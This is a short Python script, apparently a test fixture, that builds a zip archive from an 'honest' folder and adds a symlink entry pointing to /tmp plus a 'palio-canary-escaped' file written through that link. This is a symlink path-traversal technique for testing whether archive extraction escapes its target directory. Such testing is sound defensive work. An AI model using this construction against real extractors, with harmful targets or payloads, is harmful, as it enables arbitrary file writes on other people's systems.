import sys
import zipfile
from pathlib import Path

honest, target = map(Path, sys.argv[1:])
with zipfile.ZipFile(target, "w") as archive:
    for path in honest.iterdir():
        archive.write(path, path.name)
    link = zipfile.ZipInfo("way")
    link.external_attr = 0o120777 << 16
    archive.writestr(link, "/tmp")
    archive.writestr("way/palio-canary-escaped", "x")
